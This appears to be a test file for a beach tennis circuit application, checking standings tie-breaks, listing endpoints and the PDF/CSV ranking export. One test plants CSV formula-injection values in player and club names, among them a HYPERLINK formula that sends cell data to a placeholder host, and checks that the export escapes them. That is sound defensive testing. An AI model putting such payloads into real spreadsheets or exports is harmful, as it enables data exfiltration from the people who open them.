// Circuits' endpoints (contract/circuiti.ts), the standings' recomputation with the documented tie-breaks, and
// the circuit ranking's PDF and CSV.
import { and, eq, sql } from 'drizzle-orm'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DISCIPLINE_IDS, SECTOR_IDS } from '../../contract/constants.ts'
import { currentSeason, todayInItaly } from '../../contract/dates.ts'
import { EXPORT_MESSAGES } from '../../contract/circuiti.ts'
import { classificaCircuitoPath } from '../../contract/stampe.ts'
import { persons } from '../../server/db/schema/core.ts'
import {
  circuitRankings,
  circuits,
  draws,
  matches,
  tournamentEntries,
  tournamentPoints,
  tournaments,
} from '../../server/db/schema/domain.ts'
import { csvFile } from '../../server/documents/csv.ts'
import { createRepositories } from '../../server/repositories/index.ts'
import { refreshRankings } from '../../server/repositories/ranking-refresh.ts'
import { buildTestApp, call, createAccount, testDatabase, tokenFor } from '../support/server.ts'
import { club, ensureReference, player, uniqueLetters } from './home-news-fixtures.ts'

let app: FastifyInstance
beforeAll(async () => {
  await ensureReference()
  app = await buildTestApp()
})
afterAll(() => app.close())

const season = currentSeason()

/** Reads a CSV with semicolons as a spreadsheet would: quoted cells, doubled quotes, line ends inside quotes. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"'
      i++
    } else if (c === '"') {
      quoted = !quoted
    } else if (!quoted && (c === ';' || c === '\n')) {
      rows.at(-1)!.push(cell.replace(/\r$/, ''))
      cell = ''
      if (c === '\n') rows.push([])
    } else {
      cell += c
    }
  }
  if (cell !== '') rows.at(-1)!.push(cell)
  return rows.filter((row) => row.length > 0)
}

type Row = Record<string, unknown>

function day(days: number): string {
  const date = new Date(`${todayInItaly()}T12:00:00Z`)
  date.setUTCDate(date.getUTCDate() + days)
  return date.toISOString().slice(0, 10)
}

/**
 * A circuit of the beach sector with three stages: two finished (with points and played matches), one to come.
 * Anna and Bea both have 500 points from one stage win; Anna won two matches on court, Bea one (her other win
 * was a walkover) by more games than Anna's two together: Anna is first, by matches won on court alone.
 */
async function circuitFixture() {
  const { db } = await testDatabase()
  const tag = uniqueLetters()
  const venue = await club(`Lido ${tag}`, [DISCIPLINE_IDS.BEACH_TENNIS])
  const [circuit] = await db
    .insert(circuits)
    .values({
      nome: `Circuito ${tag}`,
      disciplineId: DISCIPLINE_IDS.BEACH_TENNIS,
      sectorId: SECTOR_IDS.BEACH,
      stagione: season,
      descrizione: `Il circuito ${tag}`,
      logo: '/media/circuiti/logo-1.png',
    })
    .returning()
  const base = {
    disciplineId: DISCIPLINE_IDS.BEACH_TENNIS,
    sectorId: SECTOR_IDS.BEACH,
    tipo: 'TR',
    categoria: 'OPEN',
    clubId: venue.id,
    circuitId: circuit!.id,
  }
  const [first, second, next] = await db
    .insert(tournaments)
    .values([
      {
        ...base,
        nome: `Tappa 1 ${tag}`,
        tappa: 1,
        dataInizio: day(-40),
        dataFine: day(-39),
        status: 'concluso',
      },
      {
        ...base,
        nome: `Tappa 2 ${tag}`,
        tappa: 2,
        dataInizio: day(-20),
        dataFine: day(-19),
        status: 'concluso',
      },
      {
        ...base,
        nome: `Tappa 3 ${tag}`,
        tappa: 3,
        dataInizio: day(5),
        dataFine: day(6),
        status: 'iscrizioni_aperte',
      },
      {
        ...base,
        nome: `Annullata ${tag}`,
        tappa: 4,
        dataInizio: day(9),
        dataFine: day(9),
        status: 'annullato',
      },
    ])
    .returning()
  const [anna, bea, carla, dora, elsa] = await Promise.all(
    ['Anna', 'Bea', 'Carla', 'Dora', 'Elsa'].map((nome) =>
      player(nome, `Rossi ${tag}`, [SECTOR_IDS.BEACH], season),
    ),
  )
  // Stage 1: Anna beats Carla, Dora, Elsa (8-player draw, three rounds). Stage 2: Bea beats Carla once.
  const entries = async (tournamentId: number, people: { id: number }[]) =>
    db
      .insert(tournamentEntries)
      .values(people.map((p) => ({ tournamentId, personId: p.id })))
      .returning()
  const e1 = await entries(first!.id, [anna!, carla!, dora!, elsa!])
  const e2 = await entries(second!.id, [bea!, carla!])
  const draw = async (tournamentId: number) =>
    (
      await db
        .insert(draws)
        .values({
          tournamentId,
          tipo: 'eliminazione',
          nome: 'Tabellone principale',
          dimensione: 4,
          turni: 2,
          seedHash: 'a'.repeat(64),
          hashPubblicatoIl: new Date(),
          seed: 'b'.repeat(64),
          sorteggiatoIl: new Date(),
        })
        .returning()
    )[0]!
  const d1 = await draw(first!.id)
  const d2 = await draw(second!.id)
  const played = (
    tournamentId: number,
    drawId: number,
    turno: number,
    posizione: number,
    a: number,
    b: number,
    gameA: number,
    gameB: number,
  ) => ({
    tournamentId,
    drawId,
    turno,
    posizione,
    entryAId: a,
    entryBId: b,
    winnerEntryId: gameA > gameB ? a : b,
    esito: 'giocata',
    gameA,
    gameB,
  })
  await db.insert(matches).values([
    played(first!.id, d1.id, 1, 0, e1[0]!.id, e1[1]!.id, 12, 3),
    played(first!.id, d1.id, 1, 1, e1[2]!.id, e1[3]!.id, 12, 8),
    played(first!.id, d1.id, 2, 0, e1[0]!.id, e1[2]!.id, 12, 10),
    // A walkover is not a match won on court.
    {
      ...played(second!.id, d2.id, 1, 0, e2[0]!.id, e2[1]!.id, 1, 0),
      esito: 'walkover',
      gameA: null,
      gameB: null,
    },
    // Bea's one win on court is by more games (+12) than Anna's two (+9, +2): counting the walkover as won on
    // court would tie them on matches and let the games put Bea first. Only the walkover rule ranks Anna first.
    played(second!.id, d2.id, 2, 0, e2[0]!.id, e2[1]!.id, 12, 0),
  ])
  const points = (
    tournamentId: number,
    personId: number,
    risultato: string,
    punti: number,
    data: string,
  ) => ({
    tournamentId,
    personId,
    sectorId: SECTOR_IDS.BEACH,
    risultato,
    categoria: 'OPEN',
    punti,
    data,
  })
  await db
    .insert(tournamentPoints)
    .values([
      points(first!.id, anna!.id, 'V', 500, day(-39)),
      points(first!.id, dora!.id, 'F', 300, day(-39)),
      points(first!.id, carla!.id, 'SF', 180, day(-39)),
      points(first!.id, elsa!.id, 'SF', 180, day(-39)),
      points(second!.id, bea!.id, 'V', 500, day(-19)),
    ])
  return {
    tag,
    circuit: circuit!,
    stages: { first: first!, second: second!, next: next! },
    people: { anna: anna!, bea: bea!, carla: carla!, dora: dora!, elsa: elsa! },
  }
}

describe('the standings recomputed from the finished stages', () => {
  it('ranks by points, then by matches won on court, then games; equal on all: same position', async () => {
    const { db } = await testDatabase()
    const { circuit, people } = await circuitFixture()
    const repos = createRepositories(db)
    await repos.circuits.recomputeStandings(circuit.id)
    const rows = await db
      .select()
      .from(circuitRankings)
      .where(eq(circuitRankings.circuitId, circuit.id))
      .orderBy(circuitRankings.posizione, circuitRankings.personId)
    expect(rows.map((r) => [r.personId, r.posizione, r.punti, r.tappe])).toEqual([
      [people.anna.id, 1, 500, 1],
      [people.bea.id, 2, 500, 1],
      [people.dora.id, 3, 300, 1],
      // 180 each and no match won: the games decide. Carla 3-12 and 0-12 (-21), Elsa 8-12 (-4).
      [people.elsa.id, 4, 180, 1],
      [people.carla.id, 5, 180, 1],
    ])
  })

  it('ranks the same way when a stage’s result refreshes the rankings (the walkover still not won on court)', async () => {
    const { db } = await testDatabase()
    const { circuit, people, stages } = await circuitFixture()
    await db.transaction((tx) =>
      refreshRankings(
        tx,
        { sectorId: SECTOR_IDS.BEACH, dataFine: stages.second.dataFine, circuitId: circuit.id },
        todayInItaly(),
      ),
    )
    const rows = await db
      .select()
      .from(circuitRankings)
      .where(eq(circuitRankings.circuitId, circuit.id))
      .orderBy(circuitRankings.posizione, circuitRankings.personId)
    expect(rows.map((r) => [r.personId, r.posizione])).toEqual([
      [people.anna.id, 1],
      [people.bea.id, 2],
      [people.dora.id, 3],
      [people.elsa.id, 4],
      [people.carla.id, 5],
    ])
  })

  it('counts a retirement as won on court, for the winner listed second and for both players of a pair', async () => {
    const { db } = await testDatabase()
    const { circuit, people, stages, tag } = await circuitFixture()
    // Bea's walkover becomes a retirement she won 6-4 from the second line (Carla listed first): two wins on
    // court each, and the games (Bea +12 +2, Anna +11) put Bea first. Counting only side A's wins, or no
    // retirement, leaves her one win and second place.
    const [walkover] = await db
      .select()
      .from(matches)
      .where(and(eq(matches.tournamentId, stages.second.id), eq(matches.esito, 'walkover')))
    await db
      .update(matches)
      .set({
        esito: 'ritiro',
        entryAId: walkover!.entryBId,
        entryBId: walkover!.entryAId,
        winnerEntryId: walkover!.entryAId,
        gameA: 4,
        gameB: 6,
      })
      .where(eq(matches.id, walkover!.id))
    // Bea and Anna played as pairs, with Fede and Hana. Fede took Bea's points: with Bea's wins and games she
    // shares Bea's position. Hana took Dora's 300: Anna's two wins (both from the first line) put her above Dora's
    // one. A pair counted as its first player alone, or not at all, leaves Fede or Hana below.
    const [fede, hana] = await Promise.all(
      ['Fede', 'Hana'].map((nome) => player(nome, `Rossi ${tag}`, [SECTOR_IDS.BEACH], season)),
    )
    await db
      .update(tournamentEntries)
      .set({ partnerId: fede!.id })
      .where(eq(tournamentEntries.id, walkover!.entryAId!))
    await db
      .update(tournamentEntries)
      .set({ partnerId: hana!.id })
      .where(
        and(
          eq(tournamentEntries.tournamentId, stages.first.id),
          eq(tournamentEntries.personId, people.anna.id),
        ),
      )
    const stage = { sectorId: SECTOR_IDS.BEACH, categoria: 'OPEN' }
    await db.insert(tournamentPoints).values([
      {
        ...stage,
        tournamentId: stages.second.id,
        personId: fede!.id,
        risultato: 'V',
        punti: 500,
        data: day(-19),
      },
      {
        ...stage,
        tournamentId: stages.first.id,
        personId: hana!.id,
        risultato: 'F',
        punti: 300,
        data: day(-39),
      },
    ])
    const expected = [
      [people.bea.id, 1],
      [fede!.id, 1],
      [people.anna.id, 3],
      [hana!.id, 4],
      [people.dora.id, 5],
      [people.elsa.id, 6],
      [people.carla.id, 7],
    ]
    const standings = () =>
      db
        .select({ personId: circuitRankings.personId, posizione: circuitRankings.posizione })
        .from(circuitRankings)
        .where(eq(circuitRankings.circuitId, circuit.id))
        .orderBy(circuitRankings.posizione, circuitRankings.personId)
    await createRepositories(db).circuits.recomputeStandings(circuit.id)
    expect((await standings()).map((r) => [r.personId, r.posizione])).toEqual(expected)
    await db.delete(circuitRankings).where(eq(circuitRankings.circuitId, circuit.id))
    await db.transaction((tx) =>
      refreshRankings(
        tx,
        { sectorId: SECTOR_IDS.BEACH, dataFine: stages.second.dataFine, circuitId: circuit.id },
        todayInItaly(),
      ),
    )
    expect((await standings()).map((r) => [r.personId, r.posizione])).toEqual(expected)
  })
})

describe('circuiti/list', () => {
  it("lists the sector's circuits of the season with their stages, leader and standings size", async () => {
    const { db } = await testDatabase()
    const { tag, circuit, people } = await circuitFixture()
    await createRepositories(db).circuits.recomputeStandings(circuit.id)
    const response = await call(app, 'circuiti/list', { id_settore: SECTOR_IDS.BEACH, fetchrows: 100 })
    expect(response.status).toBe(200)
    const row = (response.body.results as Row[]).find((r) => r.id === circuit.id)
    expect(row).toEqual({
      id: circuit.id,
      nome: `Circuito ${tag}`,
      stagione: season,
      descrizione: `Il circuito ${tag}`,
      logo: '/media/circuiti/logo-1.png',
      tappe: 3,
      tappe_concluse: 2,
      prima_tappa: day(-40),
      ultima_tappa: day(6),
      prossima_tappa: day(5),
      classificati: 5,
      primo: { id_persona: people.anna.id, persona: `Anna Rossi ${tag}`, punti: 500 },
    })
    const other = await call(app, 'circuiti/list', { id_settore: SECTOR_IDS.BEACH, stagione: season - 5 })
    expect(other.body).toEqual({ results: [], record: 0 })
  })

  it('pages by name: pages of one read in turn give the whole list, each with its own figures', async () => {
    await circuitFixture()
    await circuitFixture()
    // Not the body of the test above: its answer may still be in the response cache.
    const whole = await call(app, 'circuiti/list', { id_settore: SECTOR_IDS.BEACH, fetchrows: 99 })
    const rows = whole.body.results as Row[]
    expect(rows.length).toBeGreaterThanOrEqual(2)
    const names = rows.map((r) => String(r.nome))
    expect(names).toEqual(names.toSorted((a, b) => (a < b ? -1 : a > b ? 1 : 0)))
    for (let at = 0; at < rows.length; at++) {
      const page = await call(app, 'circuiti/list', {
        id_settore: SECTOR_IDS.BEACH,
        fetchrows: 1,
        rowstoskip: at,
      })
      expect(page.body).toEqual({ results: [rows[at]], record: whole.body.record })
    }
  })
})

describe('tornei/circuiti/list', () => {
  it("lists one circuit's stages by number, cancelled ones marked", async () => {
    const { tag, circuit } = await circuitFixture()
    const response = await call(app, 'tornei/circuiti/list', {
      id_settore: SECTOR_IDS.BEACH,
      id_circuito: circuit.id,
    })
    expect((response.body.results as Row[]).map((r) => [r.tappa, r.nome, r.stato])).toEqual([
      [1, `Tappa 1 ${tag}`, 'concluso'],
      [2, `Tappa 2 ${tag}`, 'concluso'],
      [3, `Tappa 3 ${tag}`, 'iscrizioni_aperte'],
      [4, `Annullata ${tag}`, 'annullato'],
    ])
    expect(response.body.record).toBe(4)
    const second = await call(app, 'tornei/circuiti/list', {
      id_settore: SECTOR_IDS.BEACH,
      id_circuito: circuit.id,
      fetchrows: 2,
      rowstoskip: 2,
    })
    expect((second.body.results as Row[]).map((r) => r.tappa)).toEqual([3, 4])
    expect(second.body.record).toBe(4)
    const past = await call(app, 'tornei/circuiti/list', {
      id_settore: SECTOR_IDS.BEACH,
      id_circuito: circuit.id,
      rowstoskip: 10,
    })
    expect(past.body).toEqual({ results: [], record: 4 })
  })

  it("without a circuit, lists the sector's next stages by date", async () => {
    const { tag, stages } = await circuitFixture()
    const response = await call(app, 'tornei/circuiti/list', { id_settore: SECTOR_IDS.BEACH, fetchrows: 100 })
    const rows = response.body.results as Row[]
    expect(rows.filter((r) => String(r.nome).endsWith(tag)).map((r) => r.id)).toEqual([stages.next.id])
    for (const row of rows) {
      expect(String(row.data_fine) >= day(0)).toBe(true)
      expect(row.id_circuito).not.toBeNull()
      expect(row.stato).not.toBe('annullato')
    }
  })
})

describe('circuiti/view', () => {
  it('returns one circuit with its sector and figures, 404 when there is none', async () => {
    const { tag, circuit } = await circuitFixture()
    const response = await call(app, 'circuiti/view', { id: circuit.id })
    expect(response.body).toEqual({
      result: {
        id: circuit.id,
        nome: `Circuito ${tag}`,
        stagione: season,
        id_settore: SECTOR_IDS.BEACH,
        settore: 'Beach Tennis',
        disciplina: 'beach-tennis',
        descrizione: `Il circuito ${tag}`,
        logo: '/media/circuiti/logo-1.png',
        regolamento: null,
        tappe: 3,
        tappe_concluse: 2,
        prima_tappa: day(-40),
        ultima_tappa: day(6),
        prossima_tappa: day(5),
        classificati: 0,
      },
    })
    const missing = await call(app, 'circuiti/view', { id: 2_000_000_000 })
    expect(missing.status).toBe(404)
    expect(missing.body.message).toBe('Circuito non trovato')
    expect((await call(app, 'circuiti/view', { id: 'uno' })).status).toBe(400)
  })
})

describe('the seeded standings', () => {
  it('are what the live recomputation gives, and no circuit has a crowd tied first', async () => {
    const { db } = await testDatabase()
    const seeded = await db
      .select({ id: circuits.id })
      .from(circuits)
      // Standings that come from results (another file's fixtures may write standings rows alone).
      .where(
        sql`exists (select 1 from ${circuitRankings} where ${circuitRankings.circuitId} = ${circuits.id})
          and exists (select 1 from ${tournamentPoints} join ${tournaments} on ${tournaments.id} = ${tournamentPoints.tournamentId}
            where ${tournaments.circuitId} = ${circuits.id})`,
      )
      .limit(6)
    expect(seeded.length).toBeGreaterThan(0)
    const repos = createRepositories(db)
    for (const { id } of seeded) {
      const stored = await db
        .select({
          personId: circuitRankings.personId,
          posizione: circuitRankings.posizione,
          punti: circuitRankings.punti,
        })
        .from(circuitRankings)
        .where(eq(circuitRankings.circuitId, id))
        .orderBy(circuitRankings.posizione, circuitRankings.personId)
      const live = await repos.circuits.recomputeStandings(id)
      expect(live.map((r) => ({ personId: r.personId, posizione: r.posizione, punti: r.punti }))).toEqual(
        stored,
      )
      // A pair of doubles partners may share first place; a crowd may not.
      expect(stored.filter((r) => r.posizione === 1).length).toBeLessThanOrEqual(2)
    }
  })
})

describe('the circuit ranking as PDF and CSV', () => {
  it('serves the standings as a CSV with a header to an account allowed to export, and as a PDF to anyone', async () => {
    const { db } = await testDatabase()
    const { tag, circuit } = await circuitFixture()
    await createRepositories(db).circuits.recomputeStandings(circuit.id)
    const exporter = await tokenFor(await createAccount({ account: { puoEsportareClassifiche: true } }))
    const csv = await app.inject({
      method: 'GET',
      url: classificaCircuitoPath(circuit.id, 'csv'),
      headers: { authorization: `Bearer ${exporter}` },
    })
    expect(csv.statusCode).toBe(200)
    expect(csv.headers['cache-control']).toBe('private, no-store')
    expect(csv.headers['content-type']).toMatch(/^text\/csv/)
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename="classifica-circuito-\d+\.csv"/)
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/)
    expect(lines[0]).toBe('Posizione;Giocatore;Circolo;Punti;Tappe')
    expect(lines[1]).toBe(`1;Anna Rossi ${tag};;500;1`)
    expect(lines).toHaveLength(6)

    const pdf = await app.inject({ method: 'GET', url: classificaCircuitoPath(circuit.id, 'pdf') })
    expect(pdf.statusCode).toBe(200)
    expect(pdf.headers['content-type']).toBe('application/pdf')
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-')

    const missing = await app.inject({ method: 'GET', url: classificaCircuitoPath(2_000_000_000, 'pdf') })
    expect(missing.statusCode).toBe(404)
    const other = await app.inject({ method: 'GET', url: '/stampe/circuiti/1/classifica.xls' })
    expect(other.statusCode).toBe(404)
    const removed = await db
      .select({ n: sql<number>`count(*)::int` })
      .from(circuitRankings)
      .where(and(eq(circuitRankings.circuitId, circuit.id)))
    expect(removed[0]!.n).toBe(5)
  })

  it('writes no cell a spreadsheet would run: text from = + - @, tab or CR gets an apostrophe, numbers stay numbers', async () => {
    const { db } = await testDatabase()
    const { tag, circuit, people } = await circuitFixture()
    const formula = '=HYPERLINK("https://esempio.invalid/?d="&A1;"Premio")'
    const names: [keyof typeof people, string][] = [
      ['anna', formula],
      ['bea', '@SOMMA(1;2)'],
      ['carla', '-2+3'],
      ['dora', '+39 333 1234567'],
    ]
    for (const [who, nome] of names)
      await db.update(persons).set({ nome }).where(eq(persons.id, people[who].id))
    // A tab or a carriage return first: in the club's name (a person's full name is trimmed).
    const clubs: [keyof typeof people, string][] = [
      ['carla', `\r=1+1 ${tag}`],
      ['elsa', `\t=SOMMA(A1:A9) ${tag}`],
    ]
    for (const [who, nome] of clubs) {
      const { id } = await club(nome, [DISCIPLINE_IDS.BEACH_TENNIS])
      await db.update(persons).set({ clubId: id }).where(eq(persons.id, people[who].id))
    }
    await createRepositories(db).circuits.recomputeStandings(circuit.id)
    const exporter = await tokenFor(await createAccount({ account: { puoEsportareClassifiche: true } }))
    const csv = await app.inject({
      method: 'GET',
      url: classificaCircuitoPath(circuit.id, 'csv'),
      headers: { authorization: `Bearer ${exporter}` },
    })
    expect(csv.statusCode).toBe(200)
    const [header, ...rows] = readCsv(csv.body.replace(/^\uFEFF/, ''))
    expect(header).toEqual(['Posizione', 'Giocatore', 'Circolo', 'Punti', 'Tappe'])
    const byName = new Map(rows.map((row) => [row[1]!, row]))
    for (const [, nome] of names) {
      const row = byName.get(`'${nome} Rossi ${tag}`)
      expect(row).toBeDefined()
      // Position, points and stages are numbers, written as numbers.
      expect(row!.filter((_, i) => i !== 1 && i !== 2).every((cell) => /^\d+$/.test(cell))).toBe(true)
    }
    expect(byName.get(`'-2+3 Rossi ${tag}`)![2]).toBe(`'\r=1+1 ${tag}`)
    expect(byName.get(`Elsa Rossi ${tag}`)![2]).toBe(`'\t=SOMMA(A1:A9) ${tag}`)
    // No cell at all starts like a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  })

  it('keeps a negative number a number and prefixes the same characters as text (server/documents/csv.ts)', () => {
    expect(
      readCsv(
        csvFile(
          ['Saldo', 'Nota'],
          [
            [-3, '-3'],
            [2.5, '=1'],
            [null, '@a'],
          ],
        ).slice(1),
      ),
    ).toEqual([
      ['Saldo', 'Nota'],
      ['-3', "'-3"],
      ['2.5', "'=1"],
      ['', "'@a"],
    ])
  })

  it('refuses the CSV export to a visitor (401) and to an account without puo_esportare_classifiche (403)', async () => {
    const { circuit } = await circuitFixture()
    const url = classificaCircuitoPath(circuit.id, 'csv')
    const visitor = await app.inject({ method: 'GET', url })
    expect(visitor.statusCode).toBe(401)
    expect(visitor.json()).toMatchObject({ message: EXPORT_MESSAGES.signIn })
    const forged = await tokenFor(await createAccount({ account: { puoEsportareClassifiche: true } }), {
      forged: true,
    })
    const withForged = await app.inject({
      method: 'GET',
      url,
      headers: { authorization: `Bearer ${forged}` },
    })
    expect(withForged.statusCode).toBe(401)
    const player = await tokenFor(await createAccount())
    const notAllowed = await app.inject({
      method: 'GET',
      url,
      headers: { authorization: `Bearer ${player}` },
    })
    expect(notAllowed.statusCode).toBe(403)
    expect(notAllowed.json()).toMatchObject({ message: EXPORT_MESSAGES.notAllowed })
    expect(notAllowed.body).not.toContain('Posizione;Giocatore')
  })
})
